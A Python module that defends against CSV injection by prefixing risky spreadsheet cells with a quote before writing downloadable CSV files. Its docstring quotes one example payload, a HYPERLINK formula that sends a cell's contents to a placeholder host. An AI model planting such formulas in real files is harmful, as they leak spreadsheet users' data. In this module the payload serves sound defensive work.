"""CSV for people's spreadsheets: cells that a spreadsheet would run as a formula are defused.

Why: a roster cell such as ``=HYPERLINK("http://host/?"&A1, "click")`` went unchanged into the
report's CSV extracts and the dashboard's CSV downloads; opened in Excel or LibreOffice it is a
live formula (CSV injection). Following OWASP's "CSV Injection" guidance, every text cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or their full-width forms,
which some spreadsheets also accept) gets a leading single quote, so the spreadsheet shows it as
text. A text cell that is a plain number (``-3.5``, ``+1e-3``) cannot be a formula and is kept
as it is; numeric columns are numbers and are never touched.

Used for every CSV a person downloads or that ships beside a report (report extracts and their
data dictionary, dashboard downloads). ``retrowalk query/stats --format csv`` is for programs
and stays exact (the value as stored); pipe it into a spreadsheet at your own risk.
"""

from __future__ import annotations

import re
from pathlib import Path

import polars as pl

#: Characters a spreadsheet may read as the start of a formula (OWASP), with full-width forms.
FORMULA_STARTS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
_RISKY = "^[" + re.escape(FORMULA_STARTS) + "]"
_PLAIN_NUMBER = r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$"


def neutralise_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with every risky text cell prefixed by ``'`` (see the module docstring)."""
    text = [
        name
        for name, dtype in frame.schema.items()
        if dtype == pl.String or isinstance(dtype, (pl.Categorical, pl.Enum))
    ]
    if not text:
        return frame
    cells = {n: pl.col(n).cast(pl.String) for n in text}
    return frame.with_columns(
        pl.when(cells[n].str.contains(_RISKY) & ~cells[n].str.contains(_PLAIN_NUMBER))
        .then(pl.lit("'") + cells[n])
        .otherwise(cells[n])
        .alias(n)
        for n in text
    )


def safe_csv(frame: pl.DataFrame, path: Path | None = None) -> str | None:
    """Write ``frame`` as CSV with formulas neutralised, to ``path`` or returned as text."""
    safe = neutralise_formulas(frame)
    if path is None:
        return safe.write_csv()
    safe.write_csv(path)
    return None
